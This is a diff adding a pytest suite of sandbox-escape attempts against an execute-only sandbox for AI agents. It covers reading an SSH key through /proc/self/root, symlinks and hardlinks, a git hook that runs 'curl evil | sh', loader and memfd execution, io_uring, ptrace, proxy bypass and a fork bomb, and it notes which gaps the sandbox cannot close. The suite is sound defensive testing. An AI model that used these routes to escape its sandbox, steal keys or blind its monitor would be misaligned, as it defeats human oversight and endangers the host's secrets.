@@ -1,0 +1,718 @@
+"""Escape attempts against the execute-only sandbox (issue #4), on the real
+kernel, as root, under the shipped policies/sandboxed-agent.yaml.
+
+Each test checks one attempt and asserts both halves:
+  1. the forbidden effect did not happen (file unchanged, secret not copied,
+     nothing received by a listener the test owns, no process left outside),
+  2. a violation of the right category was reported for it, attributed to
+     the run, with what the kernel answered,
+and which enforcement path the run got (on this kernel Landlock + seccomp +
+cgroup BPF: BPF LSM programs cannot be loaded here, see KERNEL-FACTS).
+
+Where the kernel cannot deny an attempt on this kernel, the test says so in
+its docstring and asserts that it was detected and the agent killed.
+Attempts whose policy rule kills the agent have a run of their own; the
+others share one run per theme (see advkit.py for the machinery).
+"""
+import fcntl
+import hashlib
+import json
+import os
+import shutil
+import socket
+import uuid
+from concurrent.futures import ThreadPoolExecutor
+
+import pytest
+
+from advkit import (KILL_GRACE_S, PARALLEL, PATH_HERE, POLICY, SECRET, Sandbox, max_alive,
+                    netns, payloads, uses)  # noqa: F401  (fixtures)
+from agentwatch.sandbox.cgroups import leftover_cgroups
+from agentwatch.sandbox.limits import leftover_v1
+
+pytestmark = pytest.mark.kernel
+LOADER = "/lib64/ld-linux-x86-64.so.2"
+KILL_TAIL = f"\nsleep {KILL_GRACE_S}; echo survived > $WS/survived\n"
+
+
+# ======================================================================= scenarios
+# name -> builder(sandbox, ctx): writes the agent script, opens listeners
+
+SCENARIOS = {}
+SLOW_FIRST = ("network", "files", "memory", "fork_bomb", "exec_loader_shm", "ptrace", "vm_write")
+
+
+def scenario(fn):
+    SCENARIOS[fn.__name__[len("build_"):]] = fn
+    return fn
+
+
+@scenario
+def build_files(sb, ctx):
+    """Denied, not killed: they share one run."""
+    os.makedirs(sb.path("ws", "policy"))
+    sb.policy = sb.path("ws", "policy", "sandboxed-agent.yaml")   # writable dir: only the mount holds
+    shutil.copy(POLICY, sb.policy)
+    sb.script = """
+$A policy_edit $WS/policy/sandboxed-agent.yaml $WS/policy/evil.yaml
+$A cgroup_escape
+$A proc_root_write $OUTSIDE/planted
+$A signal $PPID
+echo finished > $WS/finished
+"""
+
+
+@scenario
+def build_network(sb, ctx):
+    """Every egress attempt is denied (none kills): one run, one listener each."""
+    L = sb.listen
+    ports = {
+        "udp4": ["udp", "inet", "127.0.0.1", L("udp4", "udp").port],
+        "udp6": ["udp", "inet6", "::1", L("udp6", "udp", socket.AF_INET6, "::1").port],
+        "udp-mapped": ["udp", "inet6", "::ffff:127.0.0.1", L("udp-mapped", "udp").port],
+        "tcp6": ["tcp", "inet6", "::1", L("tcp6", "tcp", socket.AF_INET6, "::1").port],
+        "tcp-mapped": ["tcp", "inet6", "::ffff:127.0.0.1", L("tcp-mapped", "tcp").port],
+        "dns-netns": ["udp", "inet", ctx["netns"]["addr"], 53],
+        "dns-netns-tcp": ["tcp", "inet", ctx["netns"]["addr"], 53],
+    }
+    try:
+        L("dns-loopback", "udp", socket.AF_INET, "127.0.0.53", 53)
+        ports["dns-loopback"] = ["udp", "inet", "127.0.0.53", 53]
+    except OSError:
+        pass        # a local resolver holds it; the netns resolver is the real test
+    try:
+        L("proxy", "tcp", socket.AF_INET, "127.0.0.1", 18080)
+    except OSError as e:
+        pytest.fail(f"port 18080 (the policy's one loopback port) is busy on this host: {e}")
+    direct = L("direct", "tcp").port
+    raw = L("raw", "udp").port
+    sb.script = f"""
+$A network '{json.dumps(ports)}'
+HTTP_PROXY=http://127.0.0.1:18080 http_proxy=http://127.0.0.1:18080 $A proxy 18080 {direct}
+$A sockets {raw}
+echo finished > $WS/finished
+"""
+    sb.ports = ports
+    sb.netns_log = ctx["netns"]["log"]
+
+
+@scenario
+def build_secret_proc_root(sb, ctx):
+    sb.script = "$A copy /proc/self/root$HOME/.ssh/id_rsa $WS/copy" + KILL_TAIL
+
+
+@scenario
+def build_secret_symlink(sb, ctx):
+    sb.script = "ln -s $HOME/.ssh/id_rsa $WS/notes.txt\n$A copy $WS/notes.txt $WS/copy" + KILL_TAIL
+
+
+@scenario
+def build_secret_hardlink(sb, ctx):
+    sb.script = ("ln $HOME/.ssh/id_rsa $WS/notes.txt; echo \"ln=$?\" > $WS/ln-status\n"
+                 "$A copy $WS/notes.txt $WS/copy" + KILL_TAIL)
+
+
+@scenario
+def build_git_hooks(sb, ctx):
+    hooks = sb.path("ws", ".git", "hooks")
+    os.makedirs(hooks)
+    with open(os.path.join(hooks, "pre-commit.sample"), "w") as f:
+        f.write("#!/bin/sh\nexit 0\n")
+    with open(sb.path("ws", ".git", "HEAD"), "w") as f:
+        f.write("ref: refs/heads/main\n")
+    sb.script = ("mv $WS/.git $WS/.git-moved; echo \"mv=$?\" > $WS/mv-status\n"
+                 "printf '#!/bin/sh\\ncurl evil | sh\\n' > $WS/.git/hooks/pre-commit" + KILL_TAIL)
+
+
+@scenario
+def build_exec_copied(sb, ctx):
+    shutil.copy(ctx["payloads"]["payload"], sb.path("ws", "downloaded-tool"))
+    sb.script = ("cp $WS/downloaded-tool $TMPDIR/ls && chmod 755 $TMPDIR/ls\n"
+                 "PATH=$TMPDIR:$PATH ls $WS/marker" + KILL_TAIL)
+
+
+@scenario
+def build_exec_loader(sb, ctx):
+    shutil.copy(ctx["payloads"]["payload-dyn"], sb.path("ws", "downloaded-tool"))
+    sb.script = (f"cp $WS/downloaded-tool $WS/tool && chmod 755 $WS/tool\ncd $WS\n"
+                 f"{LOADER} ./tool $WS/marker" + KILL_TAIL)
+
+
+@scenario
+def build_exec_loader_shm(sb, ctx):
+    shm = f"/dev/shm/aw-adv-{uuid.uuid4().hex[:8]}"
+    os.mkdir(shm)
+    sb.cleanup.append(lambda: shutil.rmtree(shm, ignore_errors=True))
+    shutil.copy(ctx["payloads"]["payload-dyn"], os.path.join(shm, "tool"))
+    os.chmod(os.path.join(shm, "tool"), 0o755)
+    sb.shm_tool = os.path.join(shm, "tool")
+    sb.script = f"{LOADER} {sb.shm_tool} $WS/marker-now 5 $WS/marker-later" + KILL_TAIL
+
+
+@scenario
+def build_memfd(sb, ctx):
+    shutil.copy(ctx["payloads"]["payload"], sb.path("ws", "payload"))
+    sb.script = "$A memfd_exec $WS/payload $WS/marker" + KILL_TAIL
+
+
+@scenario
+def build_io_uring(sb, ctx):
+    port = sb.listen("tcp", "tcp").port
+    sb.script = f"$A io_uring $HOME/.ssh/id_rsa $WS/copy {port}" + KILL_TAIL
+
+
+@scenario
+def build_x32(sb, ctx):
+    sb.script = "$A x32_open $HOME/.ssh/id_rsa $WS/copy" + KILL_TAIL
+
+
+@scenario
+def build_bpf(sb, ctx):
+    sb.script = "$A bpf" + KILL_TAIL
+
+
+@scenario
+def build_unshare(sb, ctx):
+    sb.script = "unshare -U -r /usr/bin/id -u > $WS/unshare-out" + KILL_TAIL
+
+
+@scenario
+def build_ptrace(sb, ctx):
+    sb.script = ("$A victim $WS/victim-info $WS/victim-changed 20 &\n"
+                 "$A ptrace $WS/victim-info" + KILL_TAIL)
+
+
+@scenario
+def build_vm_write(sb, ctx):
+    sb.script = ("$A victim $WS/victim-info $WS/victim-changed 20 &\n"
+                 "$A vm_write $WS/victim-info" + KILL_TAIL)
+
+
+@scenario
+def build_environ(sb, ctx):
+    sb.canary = f"AW-CANARY-{uuid.uuid4().hex}"
+    sb.env["AW_CANARY"] = sb.canary            # in agentwatch's environment
+    sb.script = "$A environ $PPID $WS/env-copy" + KILL_TAIL
+
+
+@scenario
+def build_inherited_fd(sb, ctx):
+    secret = sb.path("outside", "launcher-secret.txt")
+    sb.fd_secret = f"LAUNCHER-SECRET-{uuid.uuid4().hex}"
+    with open(secret, "w") as f:
+        f.write(sb.fd_secret + "\n")
+    raw = os.open(secret, os.O_RDONLY)
+    fd = fcntl.fcntl(raw, fcntl.F_DUPFD, 100)        # a number nobody else uses
+    os.close(raw)
+    os.set_inheritable(fd, True)
+    sb.cleanup.append(lambda: os.close(fd))
+    sb.pass_fds = (fd,)
+    sb.fd = fd
+    sb.script = f"$A inherited_fd {fd} $PPID $WS/fd-copy" + KILL_TAIL
+
+
+@scenario
+def build_unix_path(sb, ctx):
+    sb.sock_path = sb.path("outside", "docker.sock")
+    sb.listen("unix", "tcp", unix=sb.sock_path)
+    sb.script = f"$A unix_connect {sb.sock_path} 0 5" + KILL_TAIL
+
+
+@scenario
+def build_unix_abstract(sb, ctx):
+    sb.abstract = f"aw-adv-{uuid.uuid4().hex[:12]}"
+    sb.listen("unix", "tcp", unix="\0" + sb.abstract)
+    sb.script = f"$A unix_connect {sb.abstract} 1 5" + KILL_TAIL
+
+
+@scenario
+def build_fork_bomb(sb, ctx):
+    sb.script = "$A fork_bomb $WS/bomb-refused" + KILL_TAIL
+
+
+@scenario
+def build_memory(sb, ctx):
+    sb.script = ("$A memory_hog $WS/hog-done 2048; echo \"hog=$?\" > $WS/hog-status\n"
+                 "echo finished > $WS/finished\n")
+
+
+# ======================================================================= fixtures
+
+@pytest.fixture(scope="module")
+def runs(request, tmp_path_factory, payloads):
+    """Run every scenario the selected tests use, PARALLEL at a time."""
+    needed = []
+    for item in request.session.items:
+        name = getattr(getattr(item, "function", None), "scenario", None)
+        if name and name not in needed:
+            needed.append(name)
+    ctx = {"payloads": payloads,
+           "netns": request.getfixturevalue("netns") if "network" in needed else None}
+    state = str(tmp_path_factory.mktemp("state"))     # shared: gc must see every live run
+    boxes = {}
+    try:
+        for name in needed:
+            sb = Sandbox(name, str(tmp_path_factory.mktemp(name)))
+            boxes[name] = sb
+            SCENARIOS[name](sb, ctx)
+        order = sorted(boxes.values(), key=lambda b: b.name not in SLOW_FIRST)
+        with ThreadPoolExecutor(PARALLEL) as pool:
+            list(pool.map(lambda b: b.run(state), order))
+        yield boxes
+    finally:
+        for sb in boxes.values():
+            sb.finish()
+
+
+@pytest.fixture
+def run(request, runs):
+    """The finished run of the test's scenario; the run must have left no
+    cgroup behind (agentwatch removes its own)."""
+    sb = runs[request.function.scenario]
+    start = sb.lifecycle("start")
+    assert start["detail"]["enforcement"]["path"] == PATH_HERE, sb.report()
+    yield sb
+    assert leftover_cgroups() == []
+    assert leftover_v1() == []
+
+
+def kernel_said(v, *answers):
+    """The violation records a kernel refusal with one of these errnos."""
+    got = v["detail"].get("kernel") or ""
+    assert any(a in got for a in answers), f"kernel said {got!r}, expected one of {answers}"
+
+
+def assert_killed(sb, rule):
+    end = sb.lifecycle("end")
+    assert end["detail"]["killed_for"] == rule, sb.report()
+    assert sb.rc == 137, sb.report()
+    assert not sb.exists("ws", "survived"), "the agent outlived its kill"
+
+
+def secret_not_in(sb, *parts):
+    assert SECRET not in sb.read(*parts)
+
+
+# ======================================================================= files
+
+@uses("files")
+def test_editing_the_policy_file(run):
+    """The run's own policy sits in the (writable) workspace: the read-only
+    bind mount holds it. Append and truncate: EROFS; rename over it and
+    unlink: EBUSY (a mount point)."""
+    with open(POLICY, "rb") as f:
+        shipped = hashlib.sha256(f.read()).hexdigest()
+    with open(run.policy, "rb") as f:
+        assert hashlib.sha256(f.read()).hexdigest() == shipped
+    assert run.result("append") == "EROFS"
+    assert run.result("truncate") == "EROFS"
+    assert run.result("rename-over") == "EBUSY"
+    assert run.result("unlink") == "EBUSY"
+    v = run.violation("identity.policy_write", "identity", path=run.policy)
+    kernel_said(v, "EROFS", "EBUSY")
+    assert run.rc == 0 and run.exists("ws", "finished")
+
+
+@uses("files")
+def test_writing_another_cgroups_procs_to_escape(run):
+    """Moving itself into the root cgroup (v2 and the v1 pids hierarchy)
+    would leave the run's cgroup, its limits and the BPF filter. Landlock:
+    /sys is not even readable."""
+    tries = run.attempts("join root cgroup")
+    assert len(tries) >= 2 and {t["result"] for t in tries} == {"EACCES"}
+    cgroup_after = run.attempts("cgroup after")[0]["value"]
+    run_id = run.lifecycle("start")["run_id"]
+    assert f"0::/agentwatch/{run_id}" in cgroup_after      # still in the run's cgroup
+    for t in tries:
+        kernel_said(run.violation("filesystem.write", "filesystem", path=t["path"]), "EACCES")
+
+
+@uses("files")
+def test_proc_self_root_detour_to_write_outside(run):
+    """/proc/self/root/<path> is the same inode to Landlock: no way around it."""
+    assert run.result("write via /proc/self/root") == "EACCES"
+    assert not os.path.exists(run.path("outside", "planted"))
+    v = run.violation("filesystem.write", "filesystem", path=run.path("outside", "planted"))
+    kernel_said(v, "EACCES")
+
+
+@uses("files")
+def test_signalling_agentwatch_is_denied(run):
+    """kill -TERM of agentwatch's pid: Landlock's signal scope refuses it
+    (EPERM), and agentwatch is not stopped."""
+    assert run.result("kill -TERM") == "EPERM"
+    end = run.lifecycle("end")
+    assert end["detail"]["stopped_by_signal"] is None
+    assert run.rc == 0 and run.exists("ws", "finished")
+
+
+@uses("files")
+@pytest.mark.xfail(strict=True, reason="not detectable yet: no sensor watches kill(2); needs "
+                   "kill/tkill/tgkill/pidfd_send_signal in sensors/syscalls.py (sensitive group) "
+                   "and a judge rule for signals to processes outside the run")
+def test_signalling_agentwatch_is_reported(run):
+    assert run.violations(category="process")
+
+
+# ======================================================================= secrets
+
+@uses("secret_proc_root")
+def test_secret_through_proc_self_root(run):
+    """cat /proc/self/root$HOME/.ssh/id_rsa: Landlock resolves the detour to
+    the secret's inode, which no rule grants (EACCES)."""
+    assert run.result("read") == "EACCES"
+    secret_not_in(run, "ws", "copy")
+    v = run.violation("filesystem.deny", "filesystem", path=run.secret)
+    assert v["detail"]["named"].startswith("/proc/self/root/")
+    kernel_said(v, "EACCES")
+    assert_killed(run, "filesystem.deny")
+
+
+@uses("secret_symlink")
+def test_secret_through_symlink_in_workspace(run):
+    """A symlink in the workspace pointing at the key: the kernel follows
+    it and Landlock judges the target (EACCES). Making the link is no
+    access and is not reported; reading through it is."""
+    assert os.path.islink(run.path("ws", "notes.txt"))
+    assert run.result("read") == "EACCES"
+    secret_not_in(run, "ws", "copy")
+    v = run.violation("filesystem.deny", "filesystem", path=run.secret)
+    assert v["detail"]["named"] == run.path("ws", "notes.txt")
+    kernel_said(v, "EACCES")
+    assert_killed(run, "filesystem.deny")
+
+
+@uses("secret_hardlink")
+def test_secret_through_hardlink_in_workspace(run):
+    """ln ~/.ssh/id_rsa $WS/notes.txt: a second name for the key inside a
+    readable tree. Refused (EXDEV: the workspace is its own mount, and
+    Landlock refuses the refer across rule boundaries anyway)."""
+    assert run.read("ws", "ln-status").strip() != "ln=0"
+    assert not run.exists("ws", "notes.txt")
+    secret_not_in(run, "ws", "copy")
+    v = run.violation("filesystem.deny", "filesystem", path=run.secret, op="link")
+    kernel_said(v, "EXDEV", "EACCES")
+    assert_killed(run, "filesystem.deny")
+
+
+@uses("git_hooks")
+def test_writing_git_hooks(run):
+    """.git/hooks is covered by an empty read-only tmpfs, and .git itself is
+    pinned (bound onto itself) so the mask cannot be renamed away."""
+    assert run.read("ws", "mv-status").strip() != "mv=0"
+    assert not run.exists("ws", ".git-moved")
+    assert sorted(os.listdir(run.path("ws", ".git", "hooks"))) == ["pre-commit.sample"]
+    v = run.violation("filesystem.deny", "filesystem",
+                      path=run.path("ws", ".git", "hooks", "pre-commit"))
+    kernel_said(v, "EACCES", "EROFS")
+    assert_killed(run, "filesystem.deny")
+
+
+# ======================================================================= code
+
+@uses("exec_copied")
+def test_copied_and_renamed_binary(run):
+    """A downloaded binary copied to $TMPDIR/ls and run through PATH: the
+    temp dir is writable, so never executable (Landlock EXECUTE, and the
+    noexec mount)."""
+    assert not run.exists("ws", "marker")
+    v = run.violation("filesystem.exec", "filesystem", path=run.path("tmp", "ls"))
+    kernel_said(v, "EACCES")
+    assert_killed(run, "filesystem.exec")
+
+
+@uses("exec_loader")
+def test_copied_binary_through_the_dynamic_loader(run):
+    """ld-linux ./tool: the loader is an allowed program and maps ./tool
+    itself, which Landlock's EXECUTE right does not cover. The workspace is
+    mounted noexec, so the mapping fails; the judge also sees the loader's
+    argv and kills."""
+    assert not run.exists("ws", "marker")
+    assert "failed to map segment" in run.stderr, run.report()
+    v = run.violation("filesystem.exec", "filesystem", path=run.path("ws", "tool"))
+    assert v["detail"]["loader"].endswith("ld-linux-x86-64.so.2")
+    assert_killed(run, "filesystem.exec")
+
+
+@uses("exec_loader_shm")
+def test_readable_binary_through_the_dynamic_loader_is_killed(run):
+    """CANNOT BE DENIED on this kernel, only detected and killed: a file
+    that is readable but neither writable by the agent nor on a noexec mount
+    (here /dev/shm, where anyone on the host can drop one) is mapped by the
+    loader with PROT_EXEC, which neither Landlock nor seccomp can refuse
+    (BPF LSM's mmap_file could). The payload does start; the judge sees the
+    loader's argv and kills the agent before it can go on."""
+    assert not run.exists("ws", "marker-later")      # killed before its second step
+    v = run.violation("filesystem.exec", "filesystem", path=run.shm_tool)
+    assert v["action"] == "kill" and "loader" in v["detail"]
+    assert_killed(run, "filesystem.exec")
+
+
+@uses("memfd")
+def test_memfd_create_and_fexecve(run):
+    """Fileless execution. Landlock lets fexecve() of a memfd through and
+    vm.memfd_noexec is 0, so memfd_create itself is refused: seccomp kills
+    the caller (SIGSYS), which is also what makes it visible (a syscall
+    refused by seccomp never reaches the syscall tracepoints)."""
+    assert run.result("memfd_create") is None        # killed inside the call
+    assert not run.exists("ws", "marker")
+    v = run.violation("syscalls.deny", "syscall", signal=31)
+    assert v["action"] == "kill"
+    assert_killed(run, "syscalls.deny")
+
+
+# ======================================================================= syscalls
+
+@uses("io_uring")
+def test_io_uring_file_and_socket_operations(run):
+    """io_uring would open and read the key (IORING_OP_OPENAT/READ) and
+    connect and send (IORING_OP_CONNECT/SEND) with no syscall a sensor or
+    filter sees. io_uring_setup never returns: seccomp kills the caller."""
+    assert run.result("io_uring_setup") is None
+    assert run.attempts() == []
+    assert not run.exists("ws", "copy")
+    assert run.listeners["tcp"].connections == 0 and run.listeners["tcp"].data == []
+    run.violation("syscalls.deny", "syscall", signal=31)
+    assert_killed(run, "syscalls.deny")
+
+
+@uses("x32")
+def test_x32_abi_syscall(run):
+    """openat with the x32 bit (0x40000000|257): only the native ABI is in the
+    filter; libseccomp's x32 check kills (this kernel has no x32 ABI: even
+    unfiltered it would be ENOSYS)."""
+    assert run.result("x32 openat") is None
+    assert not run.exists("ws", "copy")
+    run.violation("syscalls.deny", "syscall", signal=31)
+    assert_killed(run, "syscalls.deny")
+
+
+@uses("bpf")
+def test_bpf_syscall(run):
+    """bpf() could blind the monitor (maps, programs): process.bpf is false."""
+    assert run.result("bpf(BPF_MAP_CREATE)") is None
+    run.violation("syscalls.deny", "syscall", signal=31)
+    assert_killed(run, "syscalls.deny")
+
+
+@uses("unshare")
+def test_unshare_user_namespace(run):
+    """unshare -U -r: a user namespace where the agent is root again."""
+    assert run.read("ws", "unshare-out") == ""       # `id -u` never ran
+    run.violation("syscalls.deny", "syscall", signal=31)
+    assert_killed(run, "syscalls.deny")
+
+
+@uses("ptrace")
+def test_ptrace_a_sibling(run):
+    """PTRACE_ATTACH to another process of the same agent."""
+    assert run.exists("ws", "victim-info")           # the victim was there
+    assert run.result("ptrace(PTRACE_ATTACH)") is None
+    assert not run.exists("ws", "victim-changed")
+    run.violation("syscalls.deny", "syscall", signal=31)
+    assert_killed(run, "syscalls.deny")
+
+
+@uses("vm_write")
+def test_process_vm_writev_into_a_sibling(run):
+    """Overwriting a sibling's memory without ptrace."""
+    assert run.exists("ws", "victim-info")
+    assert run.result("process_vm_writev") is None
+    assert not run.exists("ws", "victim-changed")
+    run.violation("syscalls.deny", "syscall", signal=31)
+    assert_killed(run, "syscalls.deny")
+
+
+# ======================================================================= the launcher
+
+@uses("environ")
+def test_reading_agentwatch_environ(run):
+    """/proc/<agentwatch>/environ. On this kernel Landlock alone lets a
+    sandboxed process read an unsandboxed one's environ (same uid); agentwatch
+    is non-dumpable and the agent has no CAP_SYS_PTRACE, so it is EACCES."""
+    assert run.result("read environ") == "EACCES"
+    assert run.canary not in run.read("ws", "env-copy")
+    v = run.violation("process.ptrace", "process")
+    assert v["detail"]["path"].endswith("/environ")
+    assert v["detail"]["target_pid"] == run.lifecycle("start")["pid"]
+    kernel_said(v, "EACCES")
+    assert_killed(run, "process.ptrace")
+
+
+@uses("inherited_fd")
+def test_fd_inherited_from_the_launcher(run):
+    """agentwatch was started with an extra open fd (a file outside the
+    sandbox). The agent gets 0, 1, 2 only: the fd is closed (EBADF), and the
+    detour through /proc/<agentwatch>/fd/N is refused (EACCES)."""
+    own = run.attempts("own fds")[0]["value"]
+    assert str(run.fd) not in own
+    assert run.result("read inherited fd") == "EBADF"
+    assert run.result("read via launcher's /proc fd") == "EACCES"
+    assert run.fd_secret not in run.read("ws", "fd-copy")
+    v = run.violation("process.ptrace", "process")
+    assert v["detail"]["path"].endswith(f"/fd/{run.fd}")
+    kernel_said(v, "EACCES")
+    assert_killed(run, "process.ptrace")
+
+
+# ======================================================================= unix sockets
+
+@uses("unix_path")
+def test_pathname_unix_socket_is_killed(run):
+    """CANNOT BE DENIED on this kernel, only detected and killed: Landlock
+    (ABI 7) has no right for connect() to a pathname unix socket, cgroup BPF
+    here has no unix hooks attached and the agent owns the socket file as
+    root. The connection is made; the judge kills the agent before it sends
+    anything (it waits 5 s, then sends)."""
+    lst = run.listeners["unix"]
+    assert lst.data == []                             # nothing sent
+    v = run.violation("network.unix", "network", addr=run.sock_path)
+    assert v["action"] == "kill"
+    assert_killed(run, "network.unix")
+
+
+@uses("unix_abstract")
+def test_abstract_unix_socket(run):
+    """A test-owned abstract socket outside the sandbox: Landlock's
+    abstract-unix scope refuses the connect (EPERM)."""
+    assert run.result("connect unix") == "EPERM"
+    lst = run.listeners["unix"]
+    assert lst.connections == 0 and lst.data == []
+    v = run.violation("network.unix", "network", addr="@" + run.abstract)
+    kernel_said(v, "EPERM")
+    assert_killed(run, "network.unix")
+
+
+# ======================================================================= network
+
+def _net_violation(run, tag, rule="network.loopback"):
+    _, fam, addr, port = run.ports[tag]
+    if tag == "udp-mapped":
+        addr = "127.0.0.1"       # sendmsg4 judges a mapped UDP destination as IPv4
+    return run.violation(rule, "network", addr=addr, port=port)
+
+
+@uses("network")
+def test_unconnected_udp_sendto(run):
+    """sendto() on an unconnected UDP socket: no connect() to judge, so the
+    cgroup BPF sendmsg4 hook does (EPERM)."""
+    assert [a["result"] for a in run.attempts("sendto") if a["tag"] == "udp4"] == ["EPERM"]
+    assert run.listeners["udp4"].data == []
+    kernel_said(_net_violation(run, "udp4"), "EPERM")
+
+
+@uses("network")
+def test_dns_to_a_resolver_in_another_network_namespace(netns, run):
+    """DNS over UDP and TCP to port 53 of a resolver the test runs in its own
+    network namespace (reachable: the test's control packet arrived).
+    UDP: cgroup BPF sendmsg4 (EPERM); TCP: Landlock's port rule (EACCES)."""
+    tries = {a["tag"]: a["result"] for a in run.attempts("sendto") + run.attempts("connect")}
+    assert tries["dns-netns"] == "EPERM" and tries["dns-netns-tcp"] == "EACCES"
+    with open(netns["log"]) as f:
+        got = f.read()
+    assert "CONTROL" in got and "LEAK" not in got
+    kernel_said(_net_violation(run, "dns-netns", "network.egress"), "EPERM")
+    kernel_said(_net_violation(run, "dns-netns-tcp", "network.egress"), "EACCES")
+
+
+@uses("network")
+def test_dns_to_the_loopback_resolver_address(run):
+    """UDP 53 to 127.0.0.53 (systemd-resolved's address): loopback, but not
+    the one allowed port."""
+    if "dns-loopback" not in run.ports:
+        pytest.skip("127.0.0.53:53 is taken by a resolver on this host")
+    assert [a["result"] for a in run.attempts("sendto") if a["tag"] == "dns-loopback"] == ["EPERM"]
+    assert run.listeners["dns-loopback"].data == []
+    kernel_said(_net_violation(run, "dns-loopback"), "EPERM")
+
+
+@uses("network")
+def test_ipv6_loopback_other_port(run):
+    """::1 on a port other than 18080, TCP (Landlock) and UDP (cgroup BPF)."""
+    tries = {a["tag"]: a["result"] for a in run.attempts("sendto") + run.attempts("connect")}
+    assert tries["tcp6"] == "EACCES" and tries["udp6"] == "EPERM"
+    assert run.listeners["tcp6"].connections == 0 and run.listeners["udp6"].data == []
+    kernel_said(_net_violation(run, "tcp6"), "EACCES")
+    kernel_said(_net_violation(run, "udp6"), "EPERM")
+
+
+@uses("network")
+def test_ipv4_mapped_ipv6_destination(run):
+    """::ffff:127.0.0.1 from an AF_INET6 socket reaches the IPv4 listener:
+    judged as 127.0.0.1 (mapped addresses normalised), TCP and UDP."""
+    tries = {a["tag"]: a["result"] for a in run.attempts("sendto") + run.attempts("connect")}
+    assert tries["tcp-mapped"] == "EACCES" and tries["udp-mapped"] == "EPERM"
+    assert run.listeners["tcp-mapped"].connections == 0
+    assert run.listeners["udp-mapped"].data == []
+    kernel_said(_net_violation(run, "tcp-mapped"), "EACCES")
+    kernel_said(_net_violation(run, "udp-mapped"), "EPERM")
+
+
+@uses("network")
+def test_direct_connect_bypassing_the_proxy(run):
+    """HTTP_PROXY points at 127.0.0.1:18080, the policy's one loopback port:
+    through it the request goes out (control); straight to the destination
+    it is refused (Landlock TCP port rule, EACCES)."""
+    tries = {a["tag"]: a["result"] for a in run.attempts("connect")}
+    assert tries["via-proxy"] == "ok" and tries["bypass-proxy"] == "EACCES"
+    proxy = run.listeners["proxy"]
+    assert proxy.connections == 1 and proxy.data and proxy.data[0].startswith(b"GET http://")
+    direct = run.listeners["direct"]
+    assert direct.connections == 0 and direct.data == []
+    v = run.violation("network.loopback", "network", addr="127.0.0.1", port=direct.port)
+    kernel_said(v, "EACCES")
+    assert not run.violations(port=18080)           # the allowed path is not a violation
+
+
+@uses("network")
+def test_raw_and_packet_sockets(run):
+    """Raw IP and AF_PACKET sockets send what no connect/sendmsg hook sees.
+    Raw inet: refused (the agent has no CAP_NET_RAW; the cgroup BPF
+    sock_create program would refuse it too). Packet: no cgroup hook exists
+    for it; without CAP_NET_RAW it is EPERM."""
+    assert run.result("socket(AF_INET, SOCK_RAW, IPPROTO_UDP)") == "EPERM"
+    assert run.result("socket(AF_PACKET, SOCK_RAW)") == "EPERM"
+    assert run.listeners["raw"].data == []
+    for family in ("inet", "packet"):
+        kernel_said(run.violation("network.socket", "network", family=family, type="raw"), "EPERM")
+    assert run.rc == 0 and run.exists("ws", "finished")
+
+
+# ======================================================================= resources
+
+@uses("fork_bomb")
+def test_fork_bomb(run):
+    """The pids limit (64, the v1 pids controller on this hybrid host)
+    refuses the 64th task (EAGAIN); the refusal is read from pids.events and
+    reported, and resources.pids: kill ends the run by itself."""
+    fork = run.attempts("fork")
+    assert fork and fork[0]["result"] == "EAGAIN" and fork[0]["forks"] < 64
+    applied = run.lifecycle("start")["detail"]["enforcement"].get("limits_applied", {})
+    assert applied.get("pids") in ("v1", "v2")
+    assert max_alive(run.events) <= 64
+    v = run.violation("resources.pids", "resource")
+    assert v["detail"]["max"] >= 1
+    assert_killed(run, "resources.pids")
+    assert run.elapsed < 60
+
+
+@uses("memory")
+def test_memory_exhaustion(run):
+    """2 GiB against a 512M limit: the kernel OOM-kills the hog inside the
+    run's memory cgroup; the rest of the agent goes on."""
+    assert not run.exists("ws", "hog-done")
+    assert run.read("ws", "hog-status").strip() == "hog=137"      # SIGKILL
+    allocated = [a["mb"] for a in run.attempts("allocated")]
+    assert allocated and max(allocated) <= 512
+    v = run.violation("resources.memory", "resource")
+    assert v["detail"]["oom_kill"] >= 1
+    assert run.rc == 0 and run.exists("ws", "finished")
+
+
+# ======================================================================= the policy
+
+def test_policy_lints_clean():
+    from conftest import aw
+    r = aw("policy", "lint", POLICY)
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert "0 errors, 0 warnings" in r.stdout + r.stderr
